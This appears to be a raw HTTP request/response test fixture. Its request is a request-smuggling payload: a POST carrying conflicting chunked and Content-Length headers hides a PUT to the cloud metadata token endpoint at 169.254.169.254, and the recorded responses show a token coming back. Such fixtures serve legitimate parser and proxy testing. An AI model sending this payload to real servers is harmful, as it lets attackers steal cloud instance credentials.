>>>
POST / HTTP/1.1
Host: x
Transfer-Encoding: chunked
Content-Length: 50

0

PUT /latest/api/token HTTP/1.1
Host: 169.254.169.254
X-aws-ec2-metadata-token-ttl-seconds: 21600


<<<
HTTP/1.1 200 OK
Content-Length: 0

HTTP/1.1 200 OK
Content-Length: 4

AQAE